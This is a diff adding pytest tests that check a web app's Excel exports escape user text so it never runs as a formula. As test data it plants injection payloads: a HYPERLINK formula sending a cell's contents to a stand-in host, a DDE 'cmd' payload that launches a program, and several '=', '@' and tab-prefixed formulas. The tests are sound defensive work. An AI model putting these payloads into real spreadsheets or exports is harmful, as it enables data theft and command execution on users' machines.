@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 
 import pytest
 from openpyxl import load_workbook
@@ -107,3 +108,60 @@ def test_every_report_exports(client, staff, world) -> None:
         answer = client.get(f"/api/v1/reports/{name}.xlsx?{MARCH}", headers=auth)
         assert answer.status_code == 200, name
         assert sheet_rows(answer.data)[0][0]
+
+
+#: What a spreadsheet would run as a formula or a command if the cell held it as typed.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def every_cell(body: bytes) -> list:
+    book = load_workbook(io.BytesIO(body))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def assert_no_formula(body: bytes) -> None:
+    for cell in every_cell(body):
+        assert cell.data_type != "f", (cell.coordinate, cell.value)
+        text = cell.value if isinstance(cell.value, str) else ""
+        if not re.fullmatch(r"\+\d+", text):  # an E.164 phone the service wrote
+            assert not text.startswith(FORMULA_TRIGGERS), (cell.coordinate, cell.value)
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&C2,"点击")'
+
+
+def test_user_text_in_exports_is_never_a_formula(client, session, staff, world) -> None:
+    march_lead = world.leads[1]
+    march_lead.model, march_lead.series = "=1+2", None
+    customer = session.get(export.Customer, march_lead.customer_id)
+    customer.name, customer.city = HOSTILE_NAME, "@SUM(A1:A9)"
+    world.leads[2].series = "-2+3"
+    world.leads[3].series = "+cmd|' /C calc'!A0"
+    world.bob.name = "\t=1+1"
+    session.commit()
+    auth = staff.token(world.boss)
+
+    customers = client.get("/api/v1/customers/export.xlsx", headers=auth)
+    assert customers.status_code == 200
+    assert_no_formula(customers.data)
+    row = next(r for r in sheet_rows(customers.data) if r[0] == customer.id)
+    # The text is all there, visibly, behind the quote that keeps it text.
+    assert row[1] == "'" + HOSTILE_NAME
+    assert (row[4], row[7]) == ("'@SUM(A1:A9)", "'=1+2")
+
+    for report, group in (("funnel", "model"), ("lost_stats", "agent"), ("customers", "model")):
+        answer = client.get(f"/api/v1/reports/{report}.xlsx?{MARCH}&group={group}", headers=auth)
+        assert answer.status_code == 200, report
+        assert_no_formula(answer.data)
+    funnel = client.get(f"/api/v1/reports/funnel.xlsx?{MARCH}&group=model", headers=auth)
+    labels = {r[0] for r in sheet_rows(funnel.data)}
+    assert {"'=1+2", "'-2+3", "'+cmd|' /C calc'!A0"} <= labels
+    lost = client.get(f"/api/v1/reports/lost_stats.xlsx?{MARCH}&group=agent", headers=auth)
+    assert sheet_rows(lost.data)[1][0] == "'\t=1+1"
+
+
+def test_numbers_and_dates_stay_numbers_and_dates(client, staff, world) -> None:
+    answer = client.get(f"/api/v1/reports/lost_stats.xlsx?{MARCH}", headers=staff.token(world.boss))
+    assert sheet_rows(answer.data)[1][1:4] == (2, 1, 1)
+    assert export.as_text(-3) == -3 and export.as_text(None) is None
+    assert export.as_text("凯美瑞") == "凯美瑞"
